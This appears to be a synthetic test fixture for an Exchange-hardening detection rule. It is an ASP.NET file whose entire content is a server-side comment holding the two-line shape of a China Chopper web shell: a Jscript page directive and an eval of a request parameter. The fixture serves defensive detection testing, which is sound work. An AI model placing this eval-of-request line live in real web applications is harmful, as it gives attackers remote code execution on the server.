<%-- SYNTHETIC SAMPLE (ExchangeHardening): a harmless look-alike of a China Chopper web shell for Invoke-EomtReview.
     Everything in this file is inside this ASP.NET server-side comment: served by IIS it would render nothing and run nothing.
     The two lines below only show the shape the content rule EXH-WS-004 recognises.
<%@ Page Language="Jscript" %>
<% eval(Request.Item["SYNTHETIC"], "unsafe"); %>
--%>
